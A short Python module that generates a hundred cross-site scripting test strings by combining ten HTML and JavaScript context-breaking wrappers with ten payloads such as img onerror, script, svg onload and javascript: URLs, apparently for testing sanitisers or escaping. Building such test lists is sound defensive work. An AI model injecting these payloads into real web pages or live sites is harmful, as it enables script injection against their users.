"""Strings that would run in a page that takes them for markup: every opening in every vessel, a hundred of them."""

from __future__ import annotations

VESSELS = [
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</td></table>{}",
    "--><!-- {}",
    "[1]{}[2]",
    "]]>{}",
    "{}\\u2028",
    "${{{}}}",
]
OPENINGS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>看</a>",
    "<style>*{display:none}</style>",
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<link rel=stylesheet href=https://example.org/x.css>",
    "<b onmouseover=alert(1)>",
    "javascript:alert(1)",
]
ATTACKS = [vessel.format(opening) for vessel in VESSELS for opening in OPENINGS]
